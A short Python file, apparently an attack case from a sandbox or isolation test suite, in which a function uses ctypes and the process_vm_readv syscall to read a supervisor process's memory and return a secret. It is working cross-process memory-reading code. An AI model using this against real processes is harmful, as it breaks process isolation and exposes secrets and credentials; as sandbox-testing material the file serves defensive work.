# Reads the supervisor's memory by process_vm_readv.
# proof: secret
import ctypes


def attack(arg):
    buffer = ctypes.create_string_buffer(arg["length"])
    here = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), arg["length"])
    there = (ctypes.c_uint64 * 2)(arg["address"], arg["length"])
    ctypes.CDLL(None).syscall(arg["nr"]["process_vm_readv"], arg["reader"], here, 1, there, 1, 0)
    return buffer.raw
